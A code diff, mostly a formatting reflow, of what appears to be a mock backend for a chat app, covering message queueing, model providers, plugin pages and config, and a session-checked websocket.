-            queued = {"id": next(self.world.ids), "client_id": data["client_id"], "content": data["content"], "created_at": time.time()}
+            queued = {
+                "id": next(self.world.ids),
+                "client_id": data["client_id"],
+                "content": data["content"],
+                "created_at": time.time(),
+            }
             conversation.queue.append(queued)
             conversation.emit("queue_changed", queue=conversation.queue)
             return {"queued": queued}
@@ -751,20 +898,30 @@ class App:
 
     def do_inbox(self, query: Json, **_: Any) -> Json:
         wanted = query.get("status")
-        return {"items": [r for r in reversed(self.world.requests.values()) if wanted in (None, r["status"])], "pending": len(self.world.pending())}
+        return {
+            "items": [r for r in reversed(self.world.requests.values()) if wanted in (None, r["status"])],
+            "pending": len(self.world.pending()),
+        }
 
     def do_answer(self, ident: str, data: Json, **_: Any) -> Json:
         return self.world.answer(ident, data)
 
     def do_types(self, **_: Any) -> list[Json]:
-        return PROVIDER_TYPES
+        types: list[Json] = SAMPLES["provider_types"]
+        return types
 
     def do_providers(self, data: Json, **_: Any) -> Any:
         if self.method == "GET":
             return self.world.providers
         settings = dict(data["settings"])
         secret = settings.pop("api_key", "")
-        provider = {"id": f"p{next(self.world.ids)}", "type": data["type"], "name": data["name"], "settings": settings, "secrets": {"api_key": bool(secret)}}
+        provider = {
+            "id": f"p{next(self.world.ids)}",
+            "type": data["type"],
+            "name": data["name"],
+            "settings": settings,
+            "secrets": {"api_key": bool(secret)},
+        }
         self.world.providers.append(provider)
         return provider
 
@@ -783,11 +940,29 @@ class App:
     async def do_test(self, data: Json, **_: Any) -> Json:
         await asyncio.sleep(0.5)
         if "openai.com" in data["settings"].get("base_url", "") and data["settings"].get("api_key") != "good":
-            return {"ok": False, "models": [], "error": {"kind": "auth", "message": "The server refused the key. Check it, or make a new one.", "retryable": False}}
-        return {"ok": True, "models": [{"id": f"model-{n}", "title": "", "info": {"context_window": 8192 * n}} for n in range(1, 13)]}
+            return {
+                "ok": False,
+                "models": [],
+                "error": {
+                    "kind": "auth",
+                    "message": "The server refused the key. Check it, or make a new one.",
+                    "retryable": False,
+                },
+            }
+        return {
+            "ok": True,
+            "models": [{"id": f"model-{n}", "title": "", "info": {"context_window": 8192 * n}} for n in range(1, 13)],
+        }
 
     def do_discover(self, **_: Any) -> list[Json]:
-        return [{"type": "openai", "title": "LM Studio", "settings": {"base_url": "http://127.0.0.1:1234/v1"}, "models": [{"id": "gemma-3-4b", "title": "Gemma 3 4B"}]}]
+        return [
+            {
+                "type": "openai",
+                "title": "LM Studio",
+                "settings": {"base_url": "http://127.0.0.1:1234/v1"},
+                "models": [{"id": "gemma-3-4b", "title": "Gemma 3 4B"}],
+            }
+        ]
 
     def do_models(self, data: Json, **_: Any) -> Any:
         if self.method == "GET":
@@ -803,7 +978,18 @@ class App:
 
     async def do_try(self, ident: str, **_: Any) -> Json:
         await asyncio.sleep(0.4)
-        return {"ok": True, "text": "ok"} if ident == self.world.models[0]["id"] else {"ok": False, "error": {"kind": "gone", "message": "The server no longer has this model. Choose another one.", "retryable": False}}
+        return (
+            {"ok": True, "text": "ok"}
+            if ident == self.world.models[0]["id"]
+            else {
+                "ok": False,
+                "error": {
+                    "kind": "gone",
+                    "message": "The server no longer has this model. Choose another one.",
+                    "retryable": False,
+                },
+            }
+        )
 
     def do_model(self, ident: str, data: Json, **_: Any) -> Any:
         model = next(m for m in self.world.models if m["id"] == ident)
@@ -819,8 +1005,24 @@ class App:
     def do_pages(self, **_: Any) -> list[Json]:
         entry = "/api/plugin/demo/web/"
         return [
-            {"plugin": "demo", "page_id": "main", "title": "plugin.demo.title", "icon": "rocket-takeoff", "entry": f"{entry}page.js", "admin_only": False, "priority": 50},
-            {"plugin": "demo", "page_id": "broken", "title": "Broken page", "icon": "bug", "entry": f"{entry}broken.js", "admin_only": False, "priority": 60},
+            {
+                "plugin": "demo",
+                "page_id": "main",
+                "title": "plugin.demo.title",
+                "icon": "rocket-takeoff",
+                "entry": f"{entry}page.js",
+                "admin_only": False,
+                "priority": 50,
+            },
+            {
+                "plugin": "demo",
+                "page_id": "broken",
+                "title": "Broken page",
+                "icon": "bug",
+                "entry": f"{entry}broken.js",
+                "admin_only": False,
+                "priority": 60,
+            },
         ]
 
     def do_config(self, ident: str, data: Json, **_: Any) -> Json:
@@ -830,7 +1032,8 @@ class App:
         if ident != "demo":
             return {"schema": {"type": "object", "properties": {}}, "values": {}}
         schema = {
-            "type": "object", "required": ["greeting"],
+            "type": "object",
+            "required": ["greeting"],
             "properties": {
                 "greeting": {"type": "string", "title": "Greeting", "description": "The first word of every answer."},
                 "limit": {"type": "integer", "title": "Limit", "minimum": 1, "maximum": 10},
@@ -838,7 +1041,7 @@ class App:
                 "style": {"enum": ["calm", "lively"], "title": "Style"},
                 "token": {"type": "string", "format": "password", "title": "Token"},
             },
-        }  # fmt: skip
+        }
         return {"schema": schema, "values": self.world.config, "secrets": {"token": True}}
 
     def do_switch(self, ident: str, act: str, **_: Any) -> Json:
@@ -858,13 +1061,18 @@ class App:
         cookie = dict(scope["headers"]).get(b"cookie", b"").decode()
         session = re.search(r"skald_session=(\w+)", cookie)
         if self.world.refuse or not session or session.group(1) not in self.world.sessions:
-            return await send({"type": "websocket.close", "code": 4401})
+            await send({"type": "websocket.close", "code": 4401})
+            return
         await send({"type": "websocket.accept"})
         client = Client()
         self.world.clients.append(client)
         client.put({"type": "hello", "epoch": self.world.epoch, "user": self.world.user["id"]})
         loop = asyncio.get_running_loop()
-        tasks = [loop.create_task(self.pump(client, send)), loop.create_task(self.hear(client, receive)), loop.create_task(self.ping(client))]
+        tasks = [
+            loop.create_task(self.pump(client, send)),
+            loop.create_task(self.hear(client, receive)),
+            loop.create_task(self.ping(client)),
+        ]
         await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
         self.world.clients.remove(client)
         for task in tasks:
